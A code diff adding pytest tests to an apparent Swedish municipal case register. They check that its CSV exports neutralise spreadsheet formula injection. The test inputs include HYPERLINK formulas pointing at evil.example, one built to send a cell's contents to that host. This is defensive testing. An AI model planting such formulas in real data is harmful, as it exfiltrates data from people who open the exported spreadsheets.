@@ -98,3 +98,40 @@ def test_long_lists_page_with_their_filters(world: dict[str, Any]) -> None:
     assert "?q=bredband&amp;page=2" in page
     second = client_for(None).get("/diarium/", {"q": "bredband", "page": 2}).content.decode()
     assert "Sida 2 av 2" in second
+
+
+# --- 4. CSV cells (the probe of issue 13) --------------------------------------------------
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(
+    world: dict[str, Any], start: str
+) -> None:
+    title = f'{start}HYPERLINK("https://evil.example/?"&A1;"Klicka")'
+    make_case(body=world["body_a"], title=title)
+    text = csv_text(client_for(None).get("/diarium/export.csv"))
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    cells = [row[1] for row in rows[1:] if "HYPERLINK" in row[1]]
+    assert cells == ["'" + title]
+
+
+def test_a_kommuns_assessment_comment_reaches_the_regions_csv_as_text(
+    pact: dict[str, Any],
+) -> None:
+    from followups import services as followup_services
+
+    agreement, year = pact["agreement"], 2019
+    area = agreement.areas.first()
+    followup_services.assessments_save(
+        actor=pact["krokom"],
+        agreement=agreement,
+        year=year,
+        scores={area: (3, '=HYPERLINK("https://evil.example")')},
+    )
+    text = csv_text(
+        client_for(pact["secretariat"]).get(
+            f"/overenskommelser/{agreement.pk}/bedomning/{year}/export.csv"
+        )
+    )
+    assert "'=HYPERLINK" in text
+    assert ";=HYPERLINK" not in text
